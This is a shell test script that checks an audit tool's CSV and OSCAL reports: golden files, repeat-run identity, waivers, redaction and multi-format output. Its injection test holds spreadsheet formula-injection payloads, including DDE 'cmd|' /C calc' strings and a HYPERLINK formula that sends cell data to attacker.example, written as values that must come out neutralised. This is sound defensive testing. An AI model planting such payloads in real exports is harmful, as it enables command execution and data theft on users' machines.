#!/bin/sh
# SPDX-License-Identifier: ISC
# End-to-end: the CSV and OSCAL reports. Golden files of the sample bundle
# (one rule; every rule with waivers) under SOURCE_DATE_EPOCH, byte-identical
# on a second run; read back (tests/check-outputs.py: python3's csv and json)
# they hold one row and one finding per subscription and rule, each the
# verdict line's status and reason, with the Total line's counts, and every
# evidence link resolves to its file's SHA-256; formula triggers from the
# evidence are neutralised; --redact leaves no address in clear; -o writes
# every format. After an intended change, rewrite the golden files with
#   UPDATE_GOLDEN=1 make check TESTS=tests/test_outputs.sh
. "${srcdir:-.}/tests/lib.sh"
command -v "$PYTHON3" >/dev/null 2>&1 || skip_all "python3 is not installed"

golden=$(cd "$srcdir" && pwd)/tests/golden
in_tree

# outputs NAME EXIT ARG...: NAME.csv, NAME.json and NAME.out in the run folder.
outputs() {
	name=$1 want=$2
	shift 2
	run_in_tree "$name" "$want" --csv "$name.csv" --oscal "$name.json" "$@"
}

# same_as_golden FILE GOLDEN
same_as_golden() {
	if [ -n "${UPDATE_GOLDEN:-}" ]; then
		cp "$1" "$golden/$2"
		echo "updated tests/golden/$2"
	fi
	checks=$((checks + 1))
	cmp -s "$golden/$2" "$1" || fail "$(basename "$1") differs from tests/golden/$2: $(diff -u "$golden/$2" "$1" | head -30)"
}

read_back() {
	checks=$((checks + 1))
	"$PYTHON3" "$src/tests/check-outputs.py" "$run_dir" "$run_dir/$1.csv" "$run_dir/$1.json" \
		"$run_dir/$1.out" >"$tmp/check" 2>&1 || fail "$1: $(cat "$tmp/check")"
	cat "$tmp/check"
}

for set in "bundle:fixtures/bundle" "bundle-all-rules:--rule all --waivers tests/data/waivers.json fixtures/bundle"; do
	name=${set%%:*}
	outputs "$name" 2 ${set#*:}
	same_as_golden "$run_dir/$name.csv" "results-$name.csv"
	same_as_golden "$run_dir/$name.json" "assessment-results-$name.json"
	read_back "$name"
	mv "$run_dir/$name.csv" "$run_dir/$name.1.csv"
	mv "$run_dir/$name.json" "$run_dir/$name.1.json"
	outputs "$name" 2 ${set#*:}
	checks=$((checks + 1))
	cmp -s "$run_dir/$name.csv" "$run_dir/$name.1.csv" || fail "$name: the CSV differs between two runs"
	checks=$((checks + 1))
	cmp -s "$run_dir/$name.json" "$run_dir/$name.1.json" || fail "$name: the OSCAL document differs between two runs"
done
checks=$((checks + 1))
grep -q ',WAIVED,"waived by SEC-1042 until 2099-12-31: .*,SEC-1042,2099-12-31,,' "$run_dir/bundle-all-rules.csv" ||
	fail "no WAIVED row with its ticket and expiry in the CSV of the waived run"
checks=$((checks + 1))
grep -q '"status": "deviation-approved"' "$run_dir/bundle-all-rules.json" ||
	fail "no deviation-approved risk in the OSCAL document of the waived run"

for dir in shapes hostile; do
	outputs "$dir" 2 --rule all "fixtures/$dir"
	read_back "$dir"
done

# Formula triggers from the evidence (contact names, display names and
# addresses whose local part starts with '=', '+' or '-') never start a cell.
outputs injection 1 --rule all tests/data/injection
read_back injection
"$PYTHON3" - "$run_dir/injection.csv" >"$tmp/cells" <<'PY' || fail "injection: $(cat "$tmp/cells")"
import csv, sys
rows = {(r[0], r[2]): r for r in csv.reader(open(sys.argv[1], newline="", encoding="utf-8"))}
row = rows[("a23a4fff-bd90-491f-b422-fd1e97e54303", "contact-email")]
want = ["'+cmd|' /C calc'!A0", "'=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")",
        "'=1+1@acme-corp.com; +sum@acme-corp.com"]
assert [row[1], row[7], row[8]] == want, [row[1], row[7], row[8]]
row = rows[("70c60ca8-c9ff-4023-9986-d1b935125105", "contact-email")]
assert [row[7], row[8]] == ["'-2+3", "'-cmd@acme-corp.com"], row
row = rows[("0804510a-22a0-4975-b0f2-cefb1456f111", "notify-owners")]
assert [row[7], row[8]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'@example"], row
print("ok")
PY
checks=$((checks + 1))
grep -qF ',"'"'"'=1+1@acme-corp.com; +sum@acme-corp.com",' "$run_dir/injection.csv" ||
	fail "the address cell is not quoted and neutralised as written: $(grep a23a4fff "$run_dir/injection.csv" | head -1)"

# --redact: no address of the evidence in clear in either report.
outputs redacted 2 --redact --rule all fixtures/bundle tests/data/injection
read_back redacted
grep -rhoE '[A-Za-z0-9._%+=`$'"'"'{}-]+@[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+' "$FIX/bundle" "$srcdir/tests/data/injection" |
	sort -u >"$tmp/addresses"
checks=$((checks + 1))
grep -qx '=1+1@acme-corp.com' "$tmp/addresses" && grep -qx 'secops@initech.io' "$tmp/addresses" ||
	fail "the evidence's addresses were not found: $(head -3 "$tmp/addresses")"
while read -r addr; do
	for f in redacted.csv redacted.json; do
		checks=$((checks + 1))
		if grep -qF -- "$addr" "$run_dir/$f"; then fail "$addr in clear in $f under --redact"; fi
	done
done <"$tmp/addresses"
checks=$((checks + 1))
grep -qF ",\"'=***@acme-corp.com; +***@acme-corp.com\"," "$run_dir/redacted.csv" ||
	fail "the injection fixture's addresses are not masked (and neutralised) in the CSV under --redact"

# -o DIR writes every format, and an option of its own wins over it.
(cd "$run_dir" && ${VALGRIND:-} "$AUDIT" -q -o all --csv own.csv fixtures/bundle >/dev/null 2>&1)
for f in all/junit.xml all/report.html all/assessment-results.json all/remediation.sh own.csv; do
	checks=$((checks + 1))
	[ -s "$run_dir/$f" ] || fail "-o did not write $f"
done
checks=$((checks + 1))
[ ! -e "$run_dir/all/results.csv" ] || fail "-o wrote results.csv although --csv named another file"
finish
